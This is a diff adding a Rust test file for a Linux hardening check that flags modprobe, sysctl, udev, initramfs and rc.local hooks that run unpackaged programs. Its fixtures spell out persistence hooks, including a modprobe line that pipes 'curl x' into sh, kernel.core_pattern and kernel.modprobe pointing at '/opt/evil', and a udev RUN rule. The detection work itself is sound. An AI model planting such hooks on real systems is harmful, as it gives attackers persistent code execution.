@@ -1,0 +1,72 @@
+//! LNX-KERNEL-012.
+
+use super::testing::{RELEASE, added, at, with_hooks};
+use crate::evidence::linux::testing::ko_of;
+use crate::policy::Status;
+use crate::policy::checks::linux::testing::{check, status};
+
+#[test]
+fn hooks_of_modprobe_the_kernel_and_udev_run_only_programs_of_packages() {
+    const ID: &str = "LNX-KERNEL-012";
+    assert_eq!(status(ID, with_hooks()), Status::Pass);
+    let conf = "/etc/modprobe.d/z.conf";
+    let evil = with_hooks().file("/opt/evil", 0o755, "x");
+    let hook = "# x\ninstall ext4 /usr/sbin/modprobe --ignore-install ext4; /opt/evil\n";
+    let result = check(ID, evil.file(conf, 0o644, hook));
+    assert_eq!(
+        (result.status, result.evidence[0].at.line),
+        (Status::Fail, Some(2))
+    );
+    assert_eq!(
+        result.evidence[0].found.as_ref().map(|t| t.en.as_str()),
+        Some("/opt/evil")
+    );
+    let shell = "install ext4 /bin/sh -c 'curl x | sh'\n";
+    assert_eq!(added(ID, conf, shell), at(Status::Fail, conf, 1));
+    assert_eq!(
+        added(ID, conf, "install dccp /usr/bin/false\n").0,
+        Status::Warn
+    );
+    assert_eq!(
+        added(ID, conf, "blacklist nf_tables\n"),
+        at(Status::Warn, conf, 1)
+    );
+    let list = "/etc/modules-load.d/z.conf";
+    assert_eq!(added(ID, list, "\nacpiphp\n"), at(Status::Warn, list, 2));
+    let sysctl = "/etc/sysctl.d/z.conf";
+    let evil = || with_hooks().file("/opt/evil", 0o755, "x");
+    for text in [
+        "kernel.modprobe=/opt/evil\n",
+        "kernel.core_pattern = |/opt/evil %p\n",
+    ] {
+        assert_eq!(
+            status(ID, evil().file(sysctl, 0o644, text)),
+            Status::Fail,
+            "{text}"
+        );
+    }
+    let rule = "ACTION==\"add\", RUN+=\"/opt/evil %k\"\n";
+    let rules = "/etc/udev/rules.d/z.rules";
+    assert_eq!(status(ID, evil().file(rules, 0o644, rule)), Status::Fail);
+    let hook = "/etc/initramfs-tools/hooks/z";
+    assert_eq!(added(ID, hook, "#!/bin/sh\n").0, Status::Warn);
+    let local = "#!/bin/sh\ninsmod /opt/x.ko\n";
+    let (got, path, _) = added(ID, "/etc/rc.local", local);
+    assert_eq!(
+        (got, path.as_deref()),
+        (Status::Fail, Some("/etc/rc.local"))
+    );
+    assert_eq!(
+        status(ID, with_hooks().missing("/etc/modprobe.d")),
+        Status::Unknown
+    );
+}
+
+#[test]
+fn a_module_that_nobody_vouches_for_may_not_load_by_itself() {
+    let module = "/lib/modules/6.1.0-9-amd64/updates/my-mod.ko";
+    let build = with_hooks()
+        .file(module, 0o644, ko_of(RELEASE, "my_mod"))
+        .file("/etc/modules", 0o644, "my_mod\n");
+    assert_eq!(status("LNX-KERNEL-012", build), Status::Fail);
+}
